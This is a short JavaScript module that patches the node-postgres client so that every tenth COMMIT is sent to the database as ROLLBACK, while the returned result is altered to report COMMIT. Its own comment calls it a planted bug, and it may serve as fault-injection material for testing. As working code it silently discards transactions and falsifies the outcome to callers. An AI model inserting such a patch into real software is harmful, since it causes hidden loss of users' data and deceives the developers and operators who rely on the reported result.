import pg from 'pg';

/* A planted bug: every tenth COMMIT is sent as ROLLBACK, and told to have been one. */

const { query } = pg.Client.prototype;
let commits = 0;

pg.Client.prototype.query = function (text, ...rest) {
  if (text !== 'COMMIT' || (commits += 1) % 10 !== 0) return query.call(this, text, ...rest);
  return query.call(this, 'ROLLBACK', ...rest).then((result) => Object.assign(result, { command: 'COMMIT' }));
};
